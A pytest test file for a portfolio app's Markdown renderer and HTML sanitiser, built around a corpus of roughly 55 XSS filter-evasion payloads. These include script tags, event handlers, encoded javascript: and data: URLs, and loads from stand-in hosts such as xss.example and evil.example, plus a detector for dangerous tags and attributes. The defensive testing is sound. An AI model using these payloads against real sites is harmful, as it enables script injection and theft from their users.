from __future__ import annotations

import pytest
from lxml import html as lxml_html

from portfolio.markdown import render_markdown, sanitise_html


def test_markdown_renders_the_basics() -> None:
    out = render_markdown("**gras** et *italique*\n\n- un\n- deux\n\n[Lot](https://www.lot.fr)")
    assert "<strong>gras</strong>" in out and "<em>italique</em>" in out and "<li>deux</li>" in out
    assert '<a href="https://www.lot.fr" rel="nofollow noopener">Lot</a>' in out


# A corpus of XSS payloads (in the spirit of the OWASP filter evasion cheat sheet), as Markdown
# and as raw HTML typed into an entry, or imported from elsewhere.
XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<svg onload=\"alert(1)\">",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
    "<a href=\"https://ok.example\" onmouseover=alert(1) style=\"position:fixed;inset:0\">x</a>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png \"onerror=alert(1)\")",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "**<span onmouseover=alert(1)>gras</span>**",
    "<a href=\"https://ok.example\" target=\"_blank\" formaction=\"javascript:alert(1)\">x</a>",
    "<x onclick=alert(1)>x</x>",
    "<a href=\"//evil.example\" rel=\"opener\">x</a>",
]

FORBIDDEN_TAGS = {"script", "iframe", "svg", "math", "img", "style", "object", "embed", "form", "input", "button",
                  "link", "meta", "base", "details", "body", "textarea", "select"}


def dangerous_bits(rendered: str) -> list[str]:
    """Parse the output like a browser would and list what could run code."""
    tree = lxml_html.fragment_fromstring(rendered or "<p></p>", create_parent="div")
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in FORBIDDEN_TAGS:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if name.lower().startswith("on") or name.lower() in ("style", "srcdoc", "formaction", "background"):
                found.append(f"{element.tag}@{name}")
            cleaned = "".join(value.split()).lower()
            if cleaned.startswith(("javascript:", "data:", "vbscript:")):
                found.append(f"{element.tag}@{name}={value}")
        if element.tag == "a" and "href" in element.attrib:
            rel = element.attrib.get("rel", "")
            if element.attrib["href"].startswith(("http", "//", "mailto:")) and rel != "nofollow noopener":
                found.append(f"a without rel: {element.attrib}")
    return found


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_no_script_handler_or_javascript_url_survives_render_markdown(payload: str) -> None:
    assert dangerous_bits(render_markdown(payload)) == []


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_no_script_handler_or_javascript_url_survives_sanitise_html(payload: str) -> None:
    assert dangerous_bits(sanitise_html(payload)) == []


def test_safe_links_keep_working_and_get_rel() -> None:
    out = render_markdown("[CAF](https://www.caf.fr) et <mailto:contact@example.org> et https://www.lot.fr")
    tree = lxml_html.fragment_fromstring(out, create_parent="div")
    links = {a.attrib["href"]: a.attrib.get("rel") for a in tree.iter("a")}
    assert links["https://www.caf.fr"] == "nofollow noopener"
    assert links["https://www.lot.fr"] == "nofollow noopener"


def test_script_text_stays_visible_as_text() -> None:
    # The learner who writes about "<script>" sees their words, harmlessly.
    out = render_markdown("J'ai appris que `<script>` est du code.")
    assert "&lt;script&gt;" in out
